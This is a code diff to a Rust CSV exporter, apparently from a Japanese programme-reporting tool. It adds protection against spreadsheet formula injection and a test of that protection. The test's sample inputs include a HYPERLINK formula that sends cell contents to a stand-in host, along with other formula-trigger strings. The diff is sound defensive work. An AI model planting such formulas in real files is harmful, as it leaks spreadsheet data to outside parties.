@@ -186,11 +186,31 @@ pub fn programmes(records: &[ProgressRecord]) -> Table {
     }
 }
 
+/// Whether a spreadsheet program could read a cell starting with `c` as a
+/// formula (CSV injection): `=`, `+`, `-`, `@`, a tab or a carriage return,
+/// and their full-width forms, which a Japanese spreadsheet may take the
+/// same way.
+fn starts_a_formula(c: char) -> bool {
+    matches!(
+        c,
+        '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠'
+    )
+}
+
+/// One CSV field (RFC 4180). Text a spreadsheet would take as a formula
+/// gets a leading `'`, so that it shows as the text it is and never runs;
+/// such a field, and any with a comma, quote or line break, is quoted.
 fn csv_field(s: &str) -> String {
-    if s.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", s.replace('"', "\"\""))
+    let formula = s.chars().next().is_some_and(starts_a_formula);
+    let text = if formula {
+        format!("'{s}")
     } else {
         s.to_owned()
+    };
+    if formula || text.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", text.replace('"', "\"\""))
+    } else {
+        text
     }
 }
 
@@ -316,5 +336,46 @@ mod tests {
             html.contains("&lt;5</td>") && html.contains(">12</td>"),
             "{html}"
         );
+    }
+
+    #[test]
+    fn a_programme_name_that_looks_like_a_formula_reaches_the_csv_as_text() {
+        let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"見る\")";
+        let table = Table {
+            slug: "programmes",
+            title: "t",
+            note: "",
+            label_headings: vec!["プログラム".into(), "年度".into()],
+            count_headings: vec!["n".into()],
+            rows: vec![
+                (vec![evil.into(), "2026年度".into()], vec![7]),
+                (vec!["+1".into(), "2026年度".into()], vec![8]),
+                (vec!["-2".into(), "2026年度".into()], vec![9]),
+                (vec!["@SUM(A1)".into(), "2026年度".into()], vec![10]),
+                (vec!["\tTAB".into(), "2026年度".into()], vec![11]),
+                (vec!["\rCR".into(), "2026年度".into()], vec![12]),
+                (vec!["＝全角".into(), "2026年度".into()], vec![13]),
+            ],
+        };
+        let csv = to_csv(&table);
+        let lines: Vec<&str> = csv.split("\r\n").collect();
+        assert_eq!(
+            lines[1],
+            "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"見る\"\")\",2026年度,7"
+        );
+        assert_eq!(lines[2], "\"'+1\",2026年度,8");
+        assert_eq!(lines[3], "\"'-2\",2026年度,9");
+        assert_eq!(lines[4], "\"'@SUM(A1)\",2026年度,10");
+        assert_eq!(lines[5], "\"'\tTAB\",2026年度,11");
+        assert_eq!(lines[6], "\"'\rCR\",2026年度,12");
+        assert_eq!(lines[7], "\"'＝全角\",2026年度,13");
+        // No field of the file starts with a formula character once its
+        // quotes are taken off.
+        for line in &lines[1..] {
+            let first = line.trim_start_matches('"').chars().next();
+            assert!(!first.is_some_and(starts_a_formula), "{line}");
+        }
+        // Plain names are left as they are.
+        assert_eq!(csv_field("就労準備プログラム"), "就労準備プログラム");
     }
 }
